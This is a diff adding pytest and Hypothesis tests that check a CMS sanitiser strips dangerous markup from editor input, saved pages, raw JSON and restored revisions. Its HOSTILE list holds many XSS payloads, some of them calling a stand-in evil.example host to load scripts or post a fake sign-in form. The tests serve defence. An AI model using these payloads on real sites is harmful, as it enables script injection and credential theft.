@@ -1,0 +1,229 @@
+"""Markup from outside: nothing that runs, loads or disguises gets through, in whatever way it comes in."""
+
+import json
+import re
+
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+from wagtail.rich_text import RichText
+
+from cms.blocks import SafeRichTextBlock
+from cms.models import ModulePage
+from cms.sanitising import plain_text_to_html, sanitise_inline, sanitise_rich_text
+from tests import cast
+
+DANGER = re.compile(
+    r"<\s*/?\s*(script|style|iframe|svg|math|object|form|input|img|video|audio|link|meta|base|template|noscript|body|html)\b"
+    r"|\son\w+\s*=|javascript:|vbscript:|data:|srcdoc|style\s*=|class\s*=|[\x00-\x08\x0b\x0c\x0e-\x1f]",
+    re.IGNORECASE,
+)
+TAGS = re.compile(r"<[^>]*>")
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script/x>alert(1)</script x>",
+    "<img src=x onerror=alert(1)>",
+    "<p onclick='alert(1)'>x</p>",
+    "<p/onmouseover=alert(1)>x</p>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
+    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
+    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+    "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<template><img src=x onerror=alert(1)></template>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href='JaVaScRiPt:alert(1)'>x</a>",
+    "<a href=' javascript:alert(1)'>x</a>",
+    "<a href='java\tscript:alert(1)'>x</a>",
+    "<a href='java&#10;script:alert(1)'>x</a>",
+    "<a href='&#106;avascript:alert(1)'>x</a>",
+    "<a href='\x01javascript:alert(1)'>x</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    "<a href='vbscript:msgbox(1)'>x</a>",
+    "<a href='https://ok.example' style='position:fixed;inset:0'>x</a>",
+    "<a href='https://ok.example' target=_blank class=cg-call>x</a>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<p style='background:url(https://evil.example/pixel)'>x</p>",
+    "<iframe src='https://evil.example'></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=x></object><embed src='https://evil.example/x.swf'>",
+    "<embed embedtype='media' url='javascript:alert(1)'/>",
+    "<embed embedtype='image' id='1' onload='alert(1)' style='x'/>",
+    "<embed embedtype='<script>' id='x'/>",
+    "<base href='https://evil.example/'><link rel=stylesheet href=x><meta http-equiv=refresh content='0;url=//evil'>",
+    "<form action='https://evil.example'><input name=code><button>Sign in</button></form>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "<textarea><script>alert(1)</script></textarea>",
+    "<p>\x00<scr\x00ipt>alert(1)</scr\x00ipt></p>",
+    "<b><b><b><i><p><script>alert(1)</script></p></i></b></b></b>",
+    "<" * 50 + "script>alert(1)",
+    "<p title='\"><script>alert(1)</script>'>x</p>",
+    "<a title='--><img src=x onerror=alert(1)>' href=/>x</a>",
+]
+KEPT = [
+    "<p>Places <b>matter</b>, <i>really</i>.</p>",
+    '<p><a href="https://www.example.org/">away</a> <a href="mailto:a@b.example">write</a> <a href="tel:+44151">call</a></p>',
+    '<p><a href="/worried/">Worried?</a> <a href="#first">up</a></p>',
+    '<p><a linktype="page" id="3">a page of ours</a></p>',
+    '<p><a linktype="document" id="12">a document of ours</a></p>',
+    '<embed embedtype="image" id="10" format="left" alt="A park"/>',
+    '<embed embedtype="media" url="https://video.example/1"/>',
+    "<h2>One</h2><h3>Two</h3><ul><li>a</li></ul><ol><li>b</li></ol><hr><blockquote>c</blockquote>",
+    "<p>5 &lt; 6 &amp; 7 &gt; 2</p>",
+    "<p>Ynys Môn, Ngũgĩ, 小, 🌳, “quotes”</p>",
+]
+
+
+def markup(html: str) -> str:
+    """The tags alone: words may say anything, even "javascript:"."""
+    return " ".join(TAGS.findall(html))
+
+
+@pytest.mark.parametrize("html", HOSTILE)
+@pytest.mark.parametrize("sanitise", [sanitise_rich_text, sanitise_inline, plain_text_to_html])
+def test_nothing_hostile_is_left(html, sanitise):
+    assert not DANGER.search(markup(sanitise(html)))
+
+
+@pytest.mark.parametrize("html", KEPT)
+def test_what_an_editor_writes_stays_as_it_is(html):
+    assert sanitise_rich_text(html) == html
+
+
+@pytest.mark.parametrize(
+    ("html", "clean"),
+    [
+        ('<a linktype="page" id="3 OR 1=1">x</a>', '<a linktype="page">x</a>'),
+        ('<a linktype="javascript" id="3">x</a>', '<a id="3">x</a>'),
+        ('<a id="main">x</a>', "<a>x</a>"),
+        ('<p id="main" name="x">x</p>', "<p>x</p>"),
+        ("<p>before<script>alert('words')</script>after</p>", "<p>beforeafter</p>"),
+        ("<h1>Big</h1>", "Big"),
+        ("", ""),
+    ],
+)
+def test_what_is_taken_out(html, clean):
+    assert sanitise_rich_text(html) == clean
+
+
+def test_one_line_has_no_blocks():
+    assert sanitise_inline("<h2>a</h2> <b>b</b> <ul><li>c</li></ul>") == "a <b>b</b> c"
+
+
+ATTRIBUTE = st.builds(
+    " {}={}".format,
+    st.sampled_from(["href", "id", "linktype", "embedtype", "title", "alt", "url", "onclick", "style", "src"]),
+    st.sampled_from(['"3"', '"page"', '"image"', "'a>b'", '"a/>b"', '"&quot;>"', "javascript:x", '"https://a.example/?a=1&b=2"', "''"]),
+)
+TAG = st.builds(
+    "<{}{}{}>".format,
+    st.sampled_from(["p", "/p", "b", "/b", "a", "/a", "embed", "ul", "li", "/ul", "script", "/script", "svg", "style", "/style",
+                     "math", "table", "td", "h2", "br", "!--", "--", "select", "option", "template", "form", "noscript"]),
+    st.lists(ATTRIBUTE, max_size=2).map("".join),
+    st.sampled_from(["", " /", "/"]),
+)
+HTML = st.lists(
+    st.one_of(TAG, st.sampled_from(["&amp;", "&lt;script&gt;", "<", ">", '"', "&#106;", "\x00", "text", "-->", "]]>", " "])), max_size=12
+).map("".join)
+
+
+@settings(deadline=None, max_examples=300)
+@given(HTML)
+@example('<embed embedtype="image" id="1" alt="a>b"/>')
+def test_sanitising_twice_is_sanitising_once(html):
+    once = sanitise_rich_text(html)
+    assert sanitise_rich_text(once) == once
+
+
+@settings(deadline=None, max_examples=300)
+@given(HTML)
+def test_nothing_hostile_is_made_from_pieces(html):
+    assert not DANGER.search(re.sub(r'"[^"]*"', '""', markup(sanitise_rich_text(html))))
+
+
+# --- Plain words -------------------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("text", "html"),
+    [
+        ("One.\n\nTwo.", "<p>One.</p><p>Two.</p>"),
+        ("One.\r\nTwo.", "<p>One.<br>Two.</p>"),
+        ("  \n\n ", ""),
+        ("5 < 6 & 7", "<p>5 &lt; 6 &amp; 7</p>"),
+        ("<b>bold</b>", "<p>&lt;b&gt;bold&lt;/b&gt;</p>"),
+    ],
+)
+def test_plain_words_become_paragraphs(text, html):
+    assert plain_text_to_html(text) == html
+
+
+@pytest.mark.parametrize(
+    ("text", "href"),
+    [("see www.council.example/a?b=1", "https://www.council.example/a?b=1"), ("http://old.example", "http://old.example")],
+)
+def test_web_addresses_become_links(text, href):
+    html = plain_text_to_html(text.replace(".example", ".org"))
+    assert f'href="{href.replace(".example", ".org")}"' in html
+    assert 'rel="noopener"' in html
+
+
+def test_an_address_to_run_does_not_become_a_link():
+    assert "<a" not in plain_text_to_html("javascript:alert(1) data:text/html,x")
+
+
+# --- Every way in --------------------------------------------------------------------------------------------------------------
+
+BAD = "<p>fine<script>alert(1)</script><img src=x onerror=alert(2)></p>"
+
+
+@pytest.mark.parametrize("value", [BAD, RichText(BAD)])
+def test_the_block_cleans_what_the_editor_posts_and_what_is_stored(value):
+    block = SafeRichTextBlock()
+    as_value = block.to_python(value) if isinstance(value, str) else value
+    assert block.clean(as_value).source == "<p>fine</p>"
+    assert block.get_prep_value(value) == "<p>fine</p>"
+
+
+def stored(page) -> str:
+    return ModulePage.objects.values_list("steps", flat=True).get(pk=page.pk).get_prep_value()[0]["value"]["body"]
+
+
+@pytest.fixture
+def page(db):
+    module = cast.module()
+    module.steps = [("text", {"title": "T", "body": "<p>fine</p>"})]
+    module.save()
+    return ModulePage.objects.get(pk=module.pk)
+
+
+def test_a_page_made_in_code_is_cleaned_when_saved(page):
+    page.steps = [("text", {"title": "T", "body": RichText(BAD)})]
+    page.save()
+    assert stored(page) == "<p>fine</p>"
+
+
+def test_a_page_whose_raw_json_is_given_is_cleaned_when_saved(page, client):
+    """An import or a restored revision brings the JSON itself; no block has looked at it yet."""
+    page.steps = json.dumps([{"type": "text", "id": "ab12cd34-0000-0000-0000-000000000000", "value": {"title": "T", "body": BAD}}])
+    page.save()
+    assert stored(page) == "<p>fine</p>"
+
+
+def test_a_page_restored_from_a_revision_is_cleaned(page):
+    revision = page.save_revision()
+    content = revision.content
+    steps = json.loads(content["steps"])
+    steps[0]["value"]["body"] = BAD
+    revision.content = {**content, "steps": json.dumps(steps)}
+    revision.save()
+    revision.publish()
+    assert stored(page) == "<p>fine</p>"
